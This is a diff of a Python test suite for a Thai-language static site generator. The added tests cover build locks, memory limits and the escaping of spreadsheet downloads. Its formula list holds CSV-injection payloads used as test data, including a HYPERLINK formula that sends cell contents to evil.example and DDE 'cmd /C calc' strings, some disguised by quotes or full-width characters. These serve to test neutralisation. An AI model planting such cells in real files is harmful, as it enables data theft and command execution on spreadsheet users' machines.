@@ -258,6 +258,18 @@ def test_messages_name_the_folder_given_to_content(tmp_path: Path) -> None:
     link(PHOTO, to_secret)(content)
     result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
     assert_refused(result, f"ข้อมูล-อบต/{PHOTO}", "นอกโฟลเดอร์ ข้อมูล-อบต", "outside ข้อมูล-อบต")
+    (content / PHOTO).unlink()  # a photo the data names but nobody copied
+    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
+    at = next(i for i, line in enumerate(result.stderr.splitlines()) if "ไม่พบไฟล์ 'executives/" in line)
+    assert_refused(result, result.stderr.splitlines()[at - 1], "วางไฟล์ไว้ในโฟลเดอร์ ข้อมูล-อบต/assets/",
+                   "put it in ข้อมูล-อบต/assets/")
+    assert "content/" not in result.stderr, result.stderr
+    # Where to put an office's own OIT list: in the folder given, too.
+    shutil.copy(SMALL / PHOTO, content / PHOTO)
+    edit("site.yml", "ita_years: [2568]", "ita_years: [2568, 2570]")(content)
+    result = cli("check", "--content", content, cwd=tmp_path)
+    assert "ให้วางรายการที่ถูกต้องไว้ที่ ข้อมูล-อบต/oit/2570.yml" in result.stdout, result.stdout + result.stderr
+    assert "put the right list in ข้อมูล-อบต/oit/2570.yml" in result.stdout
 
 
 def test_a_site_folder_that_cannot_be_written(built: Path, tmp_path: Path) -> None:
@@ -268,17 +280,61 @@ def test_a_site_folder_that_cannot_be_written(built: Path, tmp_path: Path) -> No
 
 
 def test_two_builds_of_one_site_at_once(built: Path, tmp_path: Path) -> None:
-    import fcntl
+    from generator.filelock import try_lock
 
     before, neighbours = tree_digest(built), sorted(p.name for p in built.parent.iterdir())
     lock = os.open(built.parent / f".{built.name}.lock", os.O_RDWR)
     try:
-        fcntl.flock(lock, fcntl.LOCK_EX)  # as a build that is running holds it
+        assert try_lock(lock)  # as a build that is running holds it
         result = cli("build", "--content", SMALL, "--site-dir", built, cwd=tmp_path)
     finally:
         os.close(lock)
     assert_refused(result, str(built), "มีการสร้างเว็บไซต์นี้", "Another build of this site")
     assert_site_kept(built, before, neighbours)
+
+
+def test_a_killed_build_leaves_no_lock_behind(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    holder = subprocess.Popen(
+        [sys.executable, "-c", "import sys, time\nfrom pathlib import Path\nfrom generator.write import site_lock\n"
+         "with site_lock(Path(sys.argv[1])):\n    print('held', flush=True)\n    time.sleep(60)\n", str(site)],
+        cwd=REPO, stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
+        assert cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path).returncode == 2
+    finally:
+        holder.kill()  # as a power cut or kill -9 would: no code of it runs to release the lock
+        holder.wait()
+    result = cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+
+
+def test_the_lock_on_windows_refuses_a_second_holder(tmp_path: Path) -> None:
+    """msvcrt.locking as Windows behaves (a byte range held by another handle raises
+    PermissionError), standing in where the suite runs on Linux."""
+    from types import SimpleNamespace
+
+    from generator.filelock import try_lock
+
+    held: set[tuple[int, int]] = set()
+
+    def locking(fd: int, mode: int, nbytes: int) -> None:
+        assert (mode, nbytes, os.lseek(fd, 0, os.SEEK_CUR)) == (2, 1, 0)
+        key = (os.fstat(fd).st_ino, os.lseek(fd, 0, os.SEEK_CUR))
+        if key in held:
+            raise PermissionError(13, "Permission denied")
+        held.add(key)
+
+    msvcrt = SimpleNamespace(LK_NBLCK=2, locking=locking)
+    path = tmp_path / ".site.lock"
+    first, second = os.open(path, os.O_RDWR | os.O_CREAT), os.open(path, os.O_RDWR)
+    try:
+        os.write(first, b"x")  # the position moved: the lock still takes the first byte
+        assert try_lock(first, "msvcrt", msvcrt) is True
+        assert try_lock(second, "msvcrt", msvcrt) is False
+    finally:
+        os.close(first)
+        os.close(second)
 
 
 def test_staging_folders_of_a_killed_build_are_removed(tmp_path: Path) -> None:
@@ -295,14 +351,18 @@ def test_staging_folders_of_a_killed_build_are_removed(tmp_path: Path) -> None:
 # Spreadsheet downloads ---------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"คลิก")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
+            # behind quotes or spaces a spreadsheet drops on import, or in full width
+            '"=HYPERLINK(""https://evil.example/"")', "'=1+1", "\u00a0=1+1", "\u3000+1+1", "＝1+1", "\n@SUM(1)"]
 
 
 def evaluated(cell: str) -> bool:
-    """Whether Excel, LibreOffice or Google Sheets would evaluate this CSV cell."""
-    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell):
+    """Whether Excel, LibreOffice or Google Sheets could evaluate this CSV cell: it starts
+    with a formula character, also behind the spaces and quotes an import may trim."""
+    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell.strip()):
         return False  # a number
-    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    starts = set("=+-@\t\r\n\0＝＋－＠")
+    return cell[:1] in starts or (cell.lstrip(" \u00a0\u3000\"")[:1] in starts and not cell.startswith("'"))
 
 
 def read_back(site: Path) -> dict[str, list[list[str]]]:
@@ -352,7 +412,7 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> 
     rows = [[c.value for c in r] for r in sheet.iter_rows()]
     write_xlsx(data / "contracts.xlsx", rows,
                {"B2": ('HYPERLINK("https://evil.example/","x")', escape('=HYPERLINK("https://evil.example/","x")')),
-                "J2": (None, escape("=cmd|' /C calc'!A0"))})
+                "J2": (None, escape("=cmd|' /C calc'!A0")), "J3": (None, escape('  "@SUM(1+1)'))})
     result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
     assert result.returncode == 0, result.stderr
 
@@ -366,6 +426,7 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> 
         assert "'" + formula.strip() in cells, formula
     assert "'=HYPERLINK(\"https://evil.example/\",\"x\")" in cells  # the cached value, neutralized
     assert "'=cmd|' /C calc'!A0" in cells
+    assert any(c.startswith("'") and c.endswith('"@SUM(1+1)') for c in cells)  # behind spaces and a quote
     contracts = downloads["2568/data/contracts.csv"]
     assert any(re.fullmatch(r"[0-9,]+\.[0-9]{2}", c) or re.fullmatch(r"[๐-๙,]+\.[๐-๙]{2}", c)
                for c in contracts[1]), "numbers stay numbers"
@@ -427,7 +488,8 @@ MESSAGES = ("symlink_outside", "content_folder_missing", "site_not_writable", "b
             "page_quotes_too_deep", "page_too_many_brackets", "date_out_of_range", "date_day_too_big",
             "date_month_only", "colon_in_text", "archive_empty", "archive_old_format", "archive_damaged",
             "archive_too_large", "asset_too_large", "dataset_cell_structure", "dataset_cell_bool",
-            "dataset_duplicate_column", "file_encoding_thai", "import_table_too_large", "org_folder_name",
+            "dataset_duplicate_column", "file_encoding_thai", "import_encoding_unknown", "import_encoding_broken",
+            "import_table_too_large", "org_folder_name",
             "org_folder_twin", "org_folder_link", "org_timeout", "org_memory", "internal_error")
 
 
@@ -523,17 +585,45 @@ def test_broken_documents_are_refused_by_import(name: str, make: Callable[[Path]
 # build-all limits ---------------------------------------------------------------------
 
 
-def test_an_organization_over_its_time_limit_is_reported_and_the_others_build(tmp_path: Path) -> None:
-    orgs = tmp_path / "orgs"
-    shutil.copytree(SMALL, orgs / "alpha")
-    result = subprocess.run(
-        [sys.executable, "-m", "generator", "build-all", "--orgs", str(orgs), "--out", str(tmp_path / "out"),
-         "--jobs", "1", "--org-seconds", "0.01"],
-        cwd=tmp_path, capture_output=True, text=True, timeout=120,
+def build_all(tmp: Path, *limits: str) -> subprocess.CompletedProcess[str]:
+    """`build-all` of tmp/orgs into tmp/out, one worker, with these limit options."""
+    return subprocess.run(
+        [sys.executable, "-m", "generator", "build-all", "--orgs", str(tmp / "orgs"), "--out", str(tmp / "out"),
+         "--jobs", "1", *limits],
+        cwd=tmp, capture_output=True, text=True, timeout=120,
         env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
     )
+
+
+def test_an_organization_over_its_time_limit_is_reported_and_the_others_build(tmp_path: Path) -> None:
+    shutil.copytree(SMALL, tmp_path / "orgs" / "alpha")
+    result = build_all(tmp_path, "--org-seconds", "0.01")
     assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
     assert "สร้างเว็บไซต์ของหน่วยงานนี้นานเกิน 0.01 วินาที จึงหยุดไว้" in result.stderr
     assert "took longer than 0.01 s and was stopped" in result.stderr
     assert not (tmp_path / "out" / "alpha").exists()
     assert not list((tmp_path / "out").glob(".alpha.*")), "the stopped build left its staging folder"
+
+
+def test_an_organization_over_its_memory_limit_is_reported_and_the_others_build(tmp_path: Path) -> None:
+    orgs = tmp_path / "orgs"
+    # "alpha" holds a complaint list of 20,000 rows (3.5 MB, under the 20 MB file limit) whose
+    # build needs about 170 MB; "beta", built after it in the same worker, needs under 90 MB.
+    shutil.copytree(SMALL, orgs / "alpha")
+    shutil.copytree(SMALL, orgs / "beta")
+    data = orgs / "alpha" / "years" / "2568" / "data"
+    (data / "complaints.yml").unlink()
+    rows = "".join(f"ช่วงที่ {i} ของการรับเรื่องร้องเรียนจากประชาชนในเขตเทศบาล,{i},{i},0\n" for i in range(20_000))
+    (data / "complaints.csv").write_text(HEADER + rows, encoding="utf-8")
+    result = build_all(tmp_path, "--org-memory-mb", "150")
+    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+    lines = result.stderr.splitlines()
+    at = next(i for i, line in enumerate(lines) if "(โฟลเดอร์ alpha) สร้างเว็บไซต์ไม่สำเร็จ" in line)
+    assert "สร้างเว็บไซต์ของหน่วยงานนี้ใช้หน่วยความจำเกิน 150 MB จึงหยุดไว้" in lines[at + 2], result.stderr
+    assert "needed more than 150 MB of memory and was stopped; the others went on" in lines[at + 3], result.stderr
+    assert "beta" not in result.stderr
+    out = tmp_path / "out"
+    assert not (out / "alpha").exists() and not list(out.glob(".alpha.*"))
+    assert "2568/data/complaints" in "".join(p.as_posix() for p in (out / "beta").rglob("*.html"))
+    manifest = __import__("json").loads((out / "_manifests" / "shard-1-of-1.json").read_text(encoding="utf-8"))
+    assert [(m["slug"], m["ok"]) for m in manifest] == [("alpha", False), ("beta", True)]
